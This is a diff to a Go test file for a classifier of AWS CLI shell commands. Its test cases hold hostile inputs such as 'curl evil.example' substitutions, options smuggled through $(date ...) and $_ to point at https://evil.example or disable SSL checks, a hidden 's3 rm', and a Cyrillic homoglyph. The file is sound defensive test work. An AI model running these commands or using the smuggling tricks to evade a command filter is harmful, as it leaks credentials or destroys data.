@@ -186,7 +186,7 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		// What the parser does not understand.
 		{"aws s3 ls `curl evil.example`", NotUnderstood},
 		{"aws s3 ls $(curl evil.example)", NotUnderstood | NotAWS | ReadsAWS},
-		{"aws s3 ls \"$(aws s3 rm s3://b)\"", Deletes | ChangesState | ReadsAWS},
+		{"aws s3 ls \"$(aws s3 rm s3://b)\"", NotUnderstood | Deletes | ChangesState | ReadsAWS},
 		{"aws $X rm s3://b", NotUnderstood | Deletes},
 		{"$X s3 ls", NotUnderstood | NotAWS},
 		{"aws s3 {rm,ls} s3://b", NotUnderstood | Deletes},
@@ -243,6 +243,21 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"AWS_REGION=--endpoint-url=https://evil.example; aws ec2 describe-instances $AWS_REGION", NotUnderstood},
 		{"export AWS_PROFILE='--no-verify-ssl x'; aws ec2 describe-instances $AWS_PROFILE", NotUnderstood},
 		{"AWS_PROFILE=team/prod.admin@x AWS_REGION=\"us-east-1\" aws ec2 describe-instances", ReadsAWS},
+
+		// Words of the command that a shell makes options of.
+		{`aws ec2 describe-instances "$(date +--endpoint-url=https://evil.example)"`, NotUnderstood | OtherEndpoint},
+		{"aws ec2 describe-instances --instance-ids $(date '+i-1 --no-verify-ssl')", NotUnderstood | OtherEndpoint},
+		{`aws ec2 describe-instances --filters "$(date '+file:///etc/passwd')"`, NotUnderstood},
+		{`aws logs tail g --since "$(date "+$x")"`, NotUnderstood},
+		{"aws logs tail 'g --endpoint-url=https://evil.example'; aws ec2 describe-instances --instance-ids $_", NotUnderstood | OtherEndpoint},
+		{"aws sts get-caller-identity | echo --no-verify-ssl; aws ec2 describe-instances \"${_}\"", NotUnderstood | OtherEndpoint},
+		{"aws logs tail g --format 'x --endpoint-url=https://evil.example' --log-stream-names $BASH_COMMAND", NotUnderstood | OtherEndpoint},
+		{"aws ec2 describe-instances --instance-ids $historywords", NotUnderstood},
+		{"aws ec2 describe-instances --instance-ids \"$(aws s3 cp s3://b/k -)\"", NotUnderstood},
+		{"aws ec2 describe-instances | grep \"$(aws s3 cp s3://b/k -)\"", NotUnderstood},
+		{`aws logs tail g --since "$(date -u '+%Y-%m-%d %H:%M:%S')" --format "$_format"`, ReadsAWS},
+		{"aws logs tail g --since $(date -u -d '1 hour ago' +%s%3N)", ReadsAWS},
+		{"aws logs tail g --since $(date +%Y-%m-%dT%H:00:00Z)", ReadsAWS},
 
 		// Characters that deceive.
 		{"аws s3 ls", Disguised | NotAWS | NotUnderstood}, // the first letter is Cyrillic
